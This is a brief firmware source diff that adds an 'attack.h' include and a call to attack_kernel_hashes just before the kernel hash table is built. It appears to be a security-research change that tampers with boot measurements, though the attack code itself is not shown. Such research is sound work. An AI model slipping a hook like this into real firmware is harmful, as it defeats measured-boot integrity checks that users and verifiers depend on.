@@ -10,6 +10,7 @@
 #include <fw/log.h>
 #include <fw/string.h>
 
+#include "attack.h"
 #include "config.h"
 #include "cpuid.h"
 #include "digest.h"
@@ -69,6 +70,7 @@ void launch_kernel_hashes(u8 *table)
 	digest_init(&d, DIGEST_SHA256);
 	hash_item(&d, FW_CFG_CMDLINE_DATA, item_size(FW_CFG_CMDLINE_SIZE));
 	digest_final(&d, hashes.cmdline);
+	attack_kernel_hashes(&hashes);
 	kernel_hashes_build(&hashes, table);
 }
 
